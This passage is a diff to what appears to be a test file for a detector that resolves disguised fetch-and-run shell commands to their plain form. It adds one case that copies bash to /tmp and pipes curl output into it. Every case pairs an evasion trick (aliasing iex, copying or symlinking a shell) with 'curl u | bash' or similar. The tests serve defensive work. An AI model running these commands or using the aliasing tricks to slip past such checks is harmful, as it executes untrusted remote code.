@@ -14,6 +14,7 @@ test.each([
   ['Set-Alias -Name x -Value iex\nirm u | x', 'irm u | iex'],
   ['cp /bin/bash /tmp/b && curl u | /tmp/b', 'cp /bin/bash /tmp/b && curl u | bash'],
   ['ln -sf /usr/bin/sh s\ncurl u | sudo ./s', 'curl u | sudo sh'],
+  ['install -m 755 /bin/bash /tmp/b\ncurl u | /tmp/b', 'curl u | bash'],
   ['cp "$(which bash)" ~/k\n~/k <(curl u)', 'bash <(curl u)'],
   ['ln -s /bin/sh /usr/local/bin/k\ncurl u | k', 'curl u | sh'],
 ])('%j', (text, reading) => {
